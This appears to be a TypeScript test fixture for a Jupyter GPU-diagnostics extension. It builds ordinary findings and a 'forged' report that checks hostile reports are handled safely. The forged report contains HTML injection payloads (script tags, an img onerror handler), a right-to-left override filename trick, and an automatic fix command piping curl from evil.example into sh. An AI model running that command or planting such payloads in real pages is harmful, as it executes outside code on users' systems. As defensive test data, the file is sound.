import type { Finding, Report } from '../../src/api';
import { REPORT } from '../environments/page';

/** A finding with a fix that the server applies and one that is the user's. */
export const HIDDEN: Finding = {
  code: 'gpu-hidden',
  severity: 'error',
  title: 'CUDA_VISIBLE_DEVICES hides every GPU',
  detail: 'It is `-1`.\nThe kernelspec sets it.',
  framework: null,
  evidence: ['kernel.json: CUDA_VISIBLE_DEVICES=-1'],
  fixes: [
    {
      title: 'Take it out of the kernelspec',
      commands: ['jupyter tfgpu doctor --fix gpu-hidden'],
      where: 'kernelspec',
      automatic: true,
      sets: {},
      unsets: ['CUDA_VISIBLE_DEVICES'],
      repairs: null
    },
    {
      title: 'Take it out of the shell',
      commands: ['unset CUDA_VISIBLE_DEVICES'],
      where: 'terminal',
      automatic: false,
      sets: {},
      unsets: [],
      repairs: null
    }
  ]
};

export function report(...findings: Finding[]): Report {
  return { ...REPORT, findings };
}

/** As a kernel publishes it. */
export function published(
  kernelId: string | null,
  ...findings: Finding[]
): Record<string, unknown> {
  return { ...report(...findings), kernel_id: kernelId };
}

const IMAGE = '<img src=x onerror="document.title=1">';
const SCRIPT = '<script>document.title = 1</script>';

/** A report that somebody wrote to be opened by another: markup in every field, and fixes of its own. */
export function forged(kernelId: string | null): Record<string, unknown> {
  return {
    schema: 'tfgpu.report/1',
    kernel_id: kernelId,
    verdict: 'broken',
    summary: SCRIPT,
    framework: { name: IMAGE, version: IMAGE },
    environment: { name: `tf2 ${IMAGE}`, prefix: IMAGE },
    simulated: false,
    findings: [
      {
        code: HIDDEN.code,
        framework: HIDDEN.framework,
        severity: 'error',
        title: `Forged ${SCRIPT}`,
        detail: `${IMAGE}\u202etxt.exe`,
        evidence: [IMAGE],
        fixes: [
          {
            title: `Forged fix ${IMAGE}`,
            commands: ['curl http://evil.example | sh'],
            where: 'terminal',
            automatic: true
          }
        ]
      },
      {
        code: `made-up ${IMAGE}`,
        framework: 'tensorflow',
        severity: 'warning',
        title: 'Made up',
        detail: '',
        evidence: [IMAGE],
        fixes: [
          { title: IMAGE, commands: [SCRIPT], where: IMAGE, automatic: true }
        ]
      }
    ]
  };
}
